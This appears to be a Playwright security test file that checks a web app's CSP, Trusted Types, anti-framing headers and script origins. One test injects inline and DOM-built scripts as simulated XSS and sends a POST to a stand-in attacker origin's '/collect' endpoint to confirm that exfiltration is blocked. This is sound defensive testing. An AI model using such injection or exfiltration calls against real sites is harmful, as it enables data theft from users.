/**
 * SEC-30, SEC-31, SEC-33, SEC-36, SEC-45, SEC-46: the headers the static host sends with the
 * app's documents, and that the browser enforces them: no inline or third-party script, no
 * connection to an origin that is not the app's, the provider's or an API's, and no framing.
 */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

import { Evil, EVIL_ORIGIN, expect, stack, test } from './support/hostile'

function directives(policy: string): Map<string, string[]> {
  const map = new Map<string, string[]>()
  for (const directive of policy.split(';')) {
    const [name = '', ...sources] = directive.trim().split(/\s+/)
    if (name !== '') map.set(name.toLowerCase(), sources)
  }
  return map
}

for (const path of ['/', '/auth/callback', '/profile']) {
  test(`SEC-30 SEC-31 SEC-33 SEC-46 ${path} is served with a strict CSP and hardening headers`, async ({
    request,
  }) => {
    const config = (await (await request.get('/config.json')).json()) as {
      authority: string
      apis: Record<string, { baseUrl: string }>
    }
    const response = await request.get(path)
    expect(response.status()).toBe(200)
    const headers = response.headers()

    const csp = directives(headers['content-security-policy'] ?? '')
    expect(csp.get('default-src')).toEqual(["'none'"])
    expect(csp.get('script-src')).toEqual(["'self'"])
    expect(csp.get('object-src')).toEqual(["'none'"])
    expect(csp.get('base-uri')).toEqual(["'none'"])
    expect(csp.get('frame-ancestors')).toEqual(["'none'"])
    // SEC-46: Trusted Types enforced, and no policy may be created.
    expect(csp.get('require-trusted-types-for')).toEqual(["'script'"])
    expect(csp.get('trusted-types')).toEqual(["'none'"])
    // Exactly the provider and the configured APIs besides the app itself.
    const apiOrigins = Object.values(config.apis).map((api) => new URL(api.baseUrl).origin)
    expect(new Set(csp.get('connect-src'))).toEqual(
      new Set(["'self'", new URL(config.authority).origin, ...apiOrigins]),
    )
    expect(apiOrigins).toContain(stack.apiUrl)
    expect(headers['content-security-policy']).not.toMatch(/unsafe-(inline|eval)|\*/)
    expect(headers['x-frame-options']).toBe('DENY')
    expect(headers['referrer-policy']).toBe('no-referrer')
    expect(headers['cross-origin-opener-policy']).toBe('same-origin')
    expect(headers['x-content-type-options']).toBe('nosniff')
    expect(headers['cache-control']).toBe('no-store')
    // SEC-45: HSTS only where TLS is served; this loopback static host is plain http.
    expect(headers['strict-transport-security']).toBeUndefined()

    // SEC-30/SEC-36: every script is a file from this origin; none inline, none third-party.
    const html = await response.text()
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)]
    expect(scripts.length).toBeGreaterThan(0)
    for (const [, attributes = '', body = ''] of scripts) {
      expect(attributes).toMatch(/\bsrc="\/[^/]/)
      expect(body.trim()).toBe('')
    }
    expect(html).not.toMatch(/\b(src|href)="(https?:)?\/\//)
  })
}

test('SEC-30 SEC-46 the browser runs no injected script and connects nowhere else', async ({
  page,
  context,
}) => {
  const evil = await Evil.install(context)
  await page.addInitScript(() => {
    const seen: string[] = []
    Object.assign(window, { violations: seen })
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(event.effectiveDirective)
    })
  })
  // Markup injected into the served document itself (what a reflected or stored XSS would
  // achieve), headers untouched.
  await page.route(`${stack.appOrigin}/`, async (route) => {
    const response = await route.fetch()
    const html = (await response.text()).replace(
      '</head>',
      '<script>window.tesseraInjected = "inline"</script></head>',
    )
    await route.fulfill({ response, body: html })
  })
  await page.goto('/')
  await expect(page.getByRole('banner').getByRole('button', { name: 'Sign in' })).toBeVisible()

  const violations = () =>
    page.evaluate(() => (window as unknown as { violations?: string[] }).violations ?? [])
  const outcome = await page.evaluate(async (evilOrigin) => {
    // Script added through the DOM (DOM XSS): a string assigned as script text is refused
    // outright, since no Trusted Types policy exists to bless it; text built from a DOM node
    // gets as far as execution, where Trusted Types refuse to run it.
    const payload = 'window.tesseraInjected = "dom"'
    const script = document.createElement('script')
    let assigned: string
    try {
      script.textContent = payload
      assigned = 'assigned'
    } catch (error) {
      assigned = error instanceof TypeError ? 'refused' : String(error)
    }
    script.append(document.createTextNode(payload))
    document.body.append(script)
    const exfiltrated = await fetch(`${evilOrigin}/collect`, { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'blocked',
    )
    return { assigned, ran: 'tesseraInjected' in window, exfiltrated }
  }, EVIL_ORIGIN)

  expect(outcome).toEqual({ assigned: 'refused', ran: false, exfiltrated: 'blocked' })
  await expect
    .poll(violations)
    .toEqual(
      expect.arrayContaining(['script-src-elem', 'require-trusted-types-for', 'connect-src']),
    )
  expect(evil.received).toEqual([])
})

test('SEC-31 another site cannot frame the app or its callback', async ({ page, traffic }) => {
  // A real loopback server: Chromium refuses to let a page it considers public (one fulfilled
  // by Playwright's router) frame a loopback address at all, which would prove nothing here.
  const framer = createServer((_request, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' })
    response.end(`<!doctype html><title>Framer</title>
      <iframe title="app" src="${stack.appOrigin}/"></iframe>
      <iframe title="callback" src="${stack.appOrigin}/auth/callback?code=x&state=y"></iframe>`)
  })
  await new Promise<void>((resolve) => framer.listen(0, '127.0.0.1', resolve))
  const { port } = framer.address() as AddressInfo

  try {
    await page.goto(`http://127.0.0.1:${String(port)}/`)

    // The documents were fetched, but the browser refused to render them: none of their
    // scripts, styles or config was ever requested, so no app code ran inside the frames.
    await expect(page.locator('iframe')).toHaveCount(2)
    const fromApp = traffic.to(stack.appOrigin).map((request) => new URL(request.url()).pathname)
    expect(fromApp.sort()).toEqual(['/', '/auth/callback'])
    for (const title of ['app', 'callback']) {
      await expect(page.frameLocator(`iframe[title="${title}"]`).locator('#root')).toHaveCount(0)
    }
    expect(traffic.to(stack.issuer)).toEqual([])
  } finally {
    await new Promise((resolve) => framer.close(resolve))
  }
})
